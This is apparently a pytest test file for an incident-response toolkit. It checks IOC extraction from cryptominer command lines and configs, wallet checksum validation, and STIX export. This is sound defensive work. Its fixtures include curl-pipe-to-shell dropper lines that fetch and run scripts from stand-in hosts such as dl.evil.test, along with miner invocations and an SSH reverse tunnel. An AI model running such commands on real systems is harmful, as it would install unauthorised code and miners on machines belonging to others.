"""IOC extraction from miner command lines and configs; wallet formats and checksums."""

import csv
import io
import json
from pathlib import Path

import pytest
from minersample import synthetic_monero_wallet
from stixcheck import assert_strictly_valid, misp_values

from irkit.analysis.heuristics import tunnel_ioc
from irkit.analysis.iocexport import iocs_csv, iocs_json, iocs_stix
from irkit.analysis.iocs import (
    Ioc,
    download_iocs,
    iocs_from_argv,
    iocs_from_command,
    iocs_from_config,
)
from irkit.analysis.tunnels import parse_tunnel
from irkit.analysis.wallets import classify_wallet, find_wallets
from irkit.hunt.around import around_in_data
from irkit.hunt.hits import MatchedString, YaraHit, excerpt

WALLET = synthetic_monero_wallet()


@pytest.mark.parametrize(
    ("address", "currency", "valid"),
    [
        (WALLET, "monero", True),
        (WALLET[:-1] + ("A" if WALLET[-1] != "A" else "B"), "monero", False),
        ("1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2", "bitcoin", True),
        ("3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy", "bitcoin", True),
        ("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "bitcoin", True),
        ("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdx", "bitcoin", False),
        ("0x52908400098527886E0F7030069857D2E4169EE7", "ethereum", True),
        ("0x52908400098527886E0F7030069857D2E4169Ee7", "ethereum", False),
    ],
)
def test_wallet_formats_and_checksums(address: str, currency: str, valid: bool) -> None:
    wallet = classify_wallet(address)
    assert wallet is not None
    assert (wallet.currency, wallet.validated) == (currency, valid)


def test_base58_lookalikes_without_checksum_are_not_wallets() -> None:
    assert find_wallets("session 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3 ok") == []
    assert classify_wallet("hello") is None


def test_xmrig_command_line() -> None:
    argv = [
        "./kworker",
        "-o",
        "stratum+ssl://pool.example.net:14433",
        "-u",
        f"{WALLET}.rig7",
        "-p",
        "x",
        "-a",
        "rx/0",
        "--donate-level=1",
    ]
    found = {(i.ioc_type, i.value, i.validated) for i in iocs_from_argv(argv, "pid 7")}
    assert ("pool-url", "stratum+ssl://pool.example.net:14433", None) in found
    assert ("pool-host", "pool.example.net:14433", None) in found
    assert ("wallet", WALLET, True) in found
    assert ("worker", "rig7", None) in found
    assert ("algorithm", "rx/0", None) in found
    assert not any(kind == "worker" and value == "x" for kind, value, _ in found)


def test_gpu_miner_command_line() -> None:
    command = (
        "./lolMiner --algo ETCHASH --pool etc.example.org:1010 "
        "--user 0x52908400098527886E0F7030069857D2E4169EE7.gpu1"
    )
    found = {(i.ioc_type, i.value) for i in iocs_from_command(command, "cron")}
    assert ("pool-host", "etc.example.org:1010") in found
    assert ("wallet", "0x52908400098527886E0F7030069857D2E4169EE7") in found
    assert ("worker", "gpu1") in found
    assert ("algorithm", "ETCHASH") in found


def test_modern_xmrig_config_with_bare_host_port() -> None:
    config = json.dumps(
        {
            "donate-level": 1,
            "randomx": {"mode": "auto"},
            "pools": [
                {"url": "10.9.8.7:3333", "user": WALLET, "pass": "w2", "algo": "rx/0", "tls": False}
            ],
        }
    )
    found = {(i.ioc_type, i.value) for i in iocs_from_config(config, "config.json")}
    assert {
        ("pool-host", "10.9.8.7:3333"),
        ("wallet", WALLET),
        ("worker", "w2"),
        ("algorithm", "rx/0"),
    } <= found


def test_corrupt_config_falls_back_to_text() -> None:
    broken = '{"pools": [{"url": "stratum+tcp://p.example:3333", "user": "' + WALLET
    found = {(i.ioc_type, i.value) for i in iocs_from_config(broken, "c")}
    assert ("pool-url", "stratum+tcp://p.example:3333") in found
    assert ("wallet", WALLET) in found


def every_kind_of_ioc() -> list[Ioc]:
    """Pool, wallet, worker, algorithm, download URL and host, tunnel endpoint, c2, file."""
    argv = ["m", "-o", "stratum+tcp://1.2.3.4:3333", "-u", WALLET + ".rig7", "-a", "rx/0"]
    iocs = iocs_from_argv(argv, "command line of pid 1")
    iocs += download_iocs("curl -s http://dl.evil.test/x.sh | sh", "cron /etc/crontab:2")
    tunnel = parse_tunnel(["ssh", "-NR", "9000:127.0.0.1:22", "-p", "2222", "a@198.51.100.4"])
    assert tunnel is not None
    endpoint = tunnel_ioc(tunnel, "command line of pid 2", "cmdline")
    assert endpoint is not None
    file = Ioc("file", "/tmp/.x/kw'orker", "exe", detail={"sha256": "ab" * 32}, source="process")
    c2 = Ioc("c2", "[2001:db8::7]:443", "socket", detail={"host": "2001:db8::7", "port": 443})
    return [*iocs, endpoint, file, c2]


STIX_VALUES = {
    "stratum+tcp://1.2.3.4:3333", "1.2.3.4", 3333, WALLET, "rig7", "http://dl.evil.test/x.sh",
    "dl.evil.test", "198.51.100.4", 2222, "ab" * 32,
}  # fmt: skip


def test_json_and_csv_keep_types_and_integers_and_name_the_host() -> None:
    iocs = every_kind_of_ioc()
    listed = json.loads(iocs_json(iocs, host="rig-7"))
    assert {i["ioc_type"] for i in listed} >= {"pool-url", "wallet", "file"}
    assert {i["host"] for i in listed} == {"rig-7"}, "each IOC names the host it was seen on"
    rows = list(csv.DictReader(io.StringIO(iocs_csv(iocs, host="rig-7").decode())))
    assert {r["seen_on"] for r in rows} == {"rig-7"}
    by_type = {r["type"]: r for r in rows}
    assert by_type["tunnel-endpoint"]["port"] == "2222"
    assert by_type["pool-host"]["port"] == "3333"
    assert by_type["wallet"]["validated"] == "true"
    assert by_type["wallet"]["port"] == "" and by_type["file"]["port"] == ""


def test_stix_is_strictly_valid_deterministic_and_converts_to_misp(tmp_path: Path) -> None:
    """The real stix2-validator (`--strict`) and misp-stix, as a CTI team would run them."""
    iocs = every_kind_of_ioc()
    data = iocs_stix(iocs, host="h")
    bundle = json.loads(data)
    patterns = " ".join(o.get("pattern", "") for o in bundle["objects"])
    assert "file:name = 'kw\\'orker'" in patterns and "'/tmp/.x'" in patterns, "a full path"
    assert "x-" not in patterns, "STIX's own observable types only"
    again = json.loads(iocs_stix(iocs, host="h"))
    assert [o["id"] for o in again["objects"]] == [o["id"] for o in bundle["objects"]]
    path = tmp_path / "iocs.stix.json"
    path.write_bytes(data)
    assert_strictly_valid(path)
    assert misp_values(data) >= STIX_VALUES


STOCK_CONFIG = json.dumps(
    {
        "pools": [
            {"url": "donate.v2.xmrig.com:3333", "user": "YOUR_WALLET_ADDRESS", "pass": "x"},
            {"url": "randomx.xmrig.com:443", "user": "worker1", "rig-id": "worker1"},
        ]
    }
)


@pytest.mark.parametrize("source", ["file", "memory"])
def test_help_text_donation_hosts_and_placeholders_are_no_iocs(source: str) -> None:
    assert iocs_from_config(STOCK_CONFIG, "xmrig binary", source) == []
    docs = "stratum+tcp://203.0.113.7:3333 and pool.example.com:4444"
    assert iocs_from_config(docs, "README", source) == []


def test_the_same_hosts_in_live_use_stay() -> None:
    argv = ["xmrig", "-o", "randomx.xmrig.com:443", "-u", "YOUR_WALLET_ADDRESS", "-p", "x"]
    found = {(i.ioc_type, i.value) for i in iocs_from_argv(argv, "pid 9")}
    assert ("pool-host", "randomx.xmrig.com:443") in found
    assert not any(kind in ("wallet", "pool-login", "worker") for kind, _ in found)
    live = iocs_from_argv(["m", "-o", "stratum+tcp://203.0.113.7:3333"], "pid 9")
    assert ("pool-host", "203.0.113.7:3333") in {(i.ioc_type, i.value) for i in live}


def test_the_download_url_of_a_cron_dropper_and_its_host() -> None:
    line = "curl -fsSL http://198.51.100.23:8080/ldr.sh | bash; wget -q https://dl.evil.test/x -O-"
    found = {(i.ioc_type, i.value, i.source) for i in download_iocs(line, "cron line 4")}
    assert ("download-url", "http://198.51.100.23:8080/ldr.sh", "persistence") in found
    assert ("download-host", "198.51.100.23", "persistence") in found
    assert ("download-url", "https://dl.evil.test/x", "persistence") in found


def test_a_config_cut_out_of_memory_still_gives_pool_wallet_and_worker() -> None:
    window = (
        'ge-pages":true},"pools":[{"url":"10.1.2.3:3333","user":"' + WALLET
        + '","pass":"x","rig-id":"rig01","algo":"rx/0","keepalive":true,"tl'
    )  # fmt: skip
    found = {(i.ioc_type, i.value) for i in iocs_from_config(window, "pid 1 at 0x10", "memory")}
    assert {("pool-host", "10.1.2.3:3333"), ("wallet", WALLET), ("worker", "rig01")} <= found


def test_a_wallet_cut_in_the_excerpt_is_read_whole_around_the_match() -> None:
    data = b"\0" * 300 + b'{"login":"' + WALLET.encode() + b'","pass":"x"}' + b"\0" * 50
    offset = data.index(b"login")
    hit = YaraHit("Pool_Login", "t", "critical", "", "f", "file")
    hit.add_strings([MatchedString("$login", offset, 5, excerpt(data[offset : offset + 200]))])
    assert WALLET not in hit.strings[0].excerpt, "the excerpt is cut at 64 bytes"
    wallets = [i.value for i in iocs_from_config(around_in_data(hit, data), "f", "file")]
    assert wallets == [WALLET]


def test_hostile_values_stay_strictly_valid_stix(tmp_path: Path) -> None:
    """Host bytes that are not UTF-8, quotes, backslashes, newlines, bidi and escapes."""
    iocs = [
        Ioc("file", "/tmp/a\nb\\c'd\udcff\u202e.sh", "x", detail={"sha256": "ab" * 32}),
        Ioc("worker", "w\x00\x1b[31m", "x"),
        Ioc("pool-url", "stratum+tcp://h\u00e9.test:3333", "x", detail={"host": "h\u00e9.test"}),
    ]
    path = tmp_path / "h.json"
    path.write_bytes(iocs_stix(iocs, host="h\udcfe"))
    assert_strictly_valid(path)


def test_gpu_miner_dialects_split_server_and_port_and_prefix_the_coin() -> None:
    """GMiner's `--server` and `--port` apart, T-Rex's `COIN:address.worker`, lolMiner's
    dual-mining pool and user."""
    gminer = ["./miner", "--algo", "kawpow", "--server", "rvn.pool.test", "--port", "3636",
              "--user", f"RVN:{WALLET}.gpu7"]  # fmt: skip
    found = {(i.ioc_type, i.value) for i in iocs_from_argv(gminer, "c")}
    assert {("pool-host", "rvn.pool.test:3636"), ("wallet", WALLET), ("worker", "gpu7")} <= found
    eth = "0x" + "ab" * 20
    lol = ["lolMiner", "--algo", "ETCHASH", "--pool", "etc.pool.test:1010", "--user", eth,
           "--dualmode", "TONDUAL", "--dualpool", "ton.pool.test:4000",
           "--dualuser", "dual1"]  # fmt: skip
    found = {(i.ioc_type, i.value) for i in iocs_from_argv(lol, "c")}
    assert {("pool-host", "ton.pool.test:4000"), ("pool-login", "dual1"), ("wallet", eth)} <= found
